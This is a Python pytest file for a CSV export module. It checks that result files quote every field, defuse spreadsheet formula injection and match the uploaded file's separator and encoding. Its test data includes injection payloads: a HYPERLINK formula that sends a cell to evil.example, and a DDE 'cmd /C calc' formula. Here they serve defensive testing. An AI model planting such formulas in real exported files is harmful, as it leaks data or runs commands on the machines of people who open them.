"""CSV results for spreadsheets: every field quoted, nothing runnable in any locale, and
the upload's own dialect (separator, byte order mark, encoding)."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.csv_export import DEFAULT_DIALECT, ExportDialect, results_csv, safe_cell
from core.csv_import import read_csv

BOM = b"\xef\xbb\xbf"
#: What a spreadsheet runs: a cell starting (after spaces or a quote) with one of these.
RUNNABLE = re.compile(r"^[\s\"]*[=+\-@]")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "Evil;=1+2",
    "Evil,=1+2",
    "Evil\t=1+2",
    "Evil; =cmd|' /C calc'!A0",
    'Evil;"=1+2"',
    "Evil\n@SUM(A1)",
    "Evil\r\n+1",
    "a;b,c\t-d",
    "\t=1",
    "\r=1",
    " =1",
    "=a;=b,+c\t@d",
    "x\u2003;\u2003@SUM(A1)",
]


def parse(data: bytes, delimiter: str = ",") -> list[list[str]]:
    assert data.startswith(BOM)
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline=""), delimiter=delimiter))


def runnable_fragments(text: str) -> list[str]:
    """Every piece of `text` that a program ignoring quotes, and splitting on any
    separator or line, would take as a cell and run."""
    pieces = re.split(r"[,;\t\r\n]", text)
    return [piece for piece in pieces if RUNNABLE.match(piece)]


def test_bom_header_and_one_record_per_row() -> None:
    rows: list[dict[str, object]] = [
        {"row": 1, "supplier": "Harinas Martín", "status": "queued", "error": None},
        {
            "row": 2,
            "supplier": "Nombre con\nsalto, y coma",
            "status": "refused",
            "error": 'say "no"',
        },
        {"row": 3},
    ]
    data = results_csv(rows, ["row", "supplier", "status", "error"])
    records = parse(data)
    assert records == [
        ["row", "supplier", "status", "error"],
        ["1", "Harinas Martín", "queued", ""],
        ["2", "Nombre con\nsalto, y coma", "refused", 'say "no"'],
        ["3", "", "", ""],
    ]
    assert read_csv(data).rows[1]["supplier"] == "Nombre con\nsalto, y coma"  # round trip


def test_every_field_is_quoted_even_empty_and_numeric_ones() -> None:
    data = results_csv([{"a": 1, "b": None, "c": "x"}], ["a", "b", "c"])
    assert data[3:].decode("utf-8") == '"a","b","c"\r\n"1","","x"\r\n'
    semicolons = results_csv([{"a": 1}], ["a", "b"], ExportDialect(";", bom=False))
    assert semicolons == b'"a";"b"\r\n"1";""\r\n'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+34612345678", "'+34612345678"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t'=1"),  # a tab is a separator too: both pieces are defused
        ("\r=1", "'\r'=1"),
        ("\tplain", "'\tplain"),
        ("Evil;=1+2", "Evil;'=1+2"),  # Excel in a ';' locale would make "=1+2" a cell
        ("Evil, -1", "Evil,' -1"),
        ("Ana = Bea", "Ana = Bea"),
        ("PO-2026-0042", "PO-2026-0042"),
        ("Amount: -5 is negative; a PO total", "Amount: -5 is negative; a PO total"),
        (42, "42"),
        (None, ""),
        (True, "yes"),
        (datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC), "2026-01-02T03:04:05+00:00"),
    ],
)
def test_cells_are_neutralised(value: object, cell: str) -> None:
    assert safe_cell(value) == cell


@pytest.mark.parametrize("hostile", HOSTILE)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_runs_whatever_the_opening_program_splits_on(hostile: str, delimiter: str) -> None:
    data = results_csv(
        [{hostile: hostile, "n": 1}], [hostile, "n"], ExportDialect(delimiter, bom=True)
    )
    text = data[3:].decode("utf-8")
    assert runnable_fragments(text) == []  # split naively on , ; tab and lines
    header, row = parse(data, delimiter)
    assert header[0] == row[0]  # read properly: one cell, the text with apostrophes added
    assert row[0].replace("'", "") == hostile.replace("'", "")


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("ab =+-@;,\t\r\n\"' \u00a0")), max_size=12))
def test_generated_cells_never_run_and_only_gain_apostrophes(text: str) -> None:
    cell = safe_cell(text)
    assert runnable_fragments(cell) == []
    assert cell.replace("'", "") == text.replace("'", "")


def test_formula_in_results_file_is_text_when_read_back() -> None:
    data = results_csv([{"name": "=cmd|' /C calc'!A0"}], ["name"])
    assert parse(data)[1] == ["'=cmd|' /C calc'!A0"]


def test_hostile_header_names_are_neutralised_too() -> None:
    assert parse(results_csv([], ["=evil"]))[0] == ["'=evil"]


# Dialects ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("encoding", "delimiter", "expected"),
    [
        ("utf-8-sig", ";", ExportDialect(";", bom=True)),
        ("utf-8", ",", ExportDialect(",", bom=None)),
        ("utf-8", "\t", ExportDialect("\t", bom=None)),
        ("cp1252", ";", ExportDialect(";", bom=True)),  # answered in UTF-8: nothing lost
        ("latin-1", ",", ExportDialect(",", bom=True)),
        ("utf-16", "\t", ExportDialect("\t", bom=True, encoding="utf-16")),
    ],
)
def test_the_uploads_dialect_is_answered_in_kind(
    encoding: str, delimiter: str, expected: ExportDialect
) -> None:
    assert ExportDialect.of_upload(encoding, delimiter) == expected


def test_bom_only_when_needed_for_a_utf8_upload_without_one() -> None:
    auto = ExportDialect(",", bom=None)
    assert results_csv([{"a": "Ana"}], ["a"], auto) == b'"a"\r\n"Ana"\r\n'
    accented = results_csv([{"a": "Martín"}], ["a"], auto)
    assert accented == BOM + '"a"\r\n"Martín"\r\n'.encode()


def test_utf16_upload_gets_utf16_back() -> None:
    data = results_csv([{"a": "Núñez", "b": 1}], ["a", "b"], ExportDialect("\t", encoding="utf-16"))
    assert data.startswith((b"\xff\xfe", b"\xfe\xff"))
    assert data.decode("utf-16") == '"a"\t"b"\r\n"Núñez"\t"1"\r\n'
    table = read_csv(data)
    assert table.delimiter == "\t" and table.rows == [{"a": "Núñez", "b": "1"}]


@pytest.mark.parametrize(
    "stored",
    [
        {"delimiter": ";", "bom": True, "encoding": "utf-8"},
        {"delimiter": "\t", "bom": None, "encoding": "utf-16"},
    ],
)
def test_a_stored_dialect_reads_back(stored: dict[str, object]) -> None:
    dialect = ExportDialect.from_json(stored)
    assert dialect is not None and dialect.to_json() == stored


@pytest.mark.parametrize(
    "stored",
    [
        None,
        "semicolon",
        [";"],
        {},
        {"delimiter": "|"},
        {"delimiter": ";", "encoding": "ebcdic"},
        {"delimiter": 59},
        {"delimiter": ";", "encoding": ["utf-8"]},
    ],
)
def test_a_damaged_stored_dialect_is_ignored_not_fatal(stored: object) -> None:
    assert ExportDialect.from_json(stored) is None


def test_the_default_dialect_is_comma_with_a_bom() -> None:
    assert ExportDialect(",", bom=True, encoding="utf-8") == DEFAULT_DIALECT
    with pytest.raises(ValueError, match="separated by"):
        ExportDialect("|")
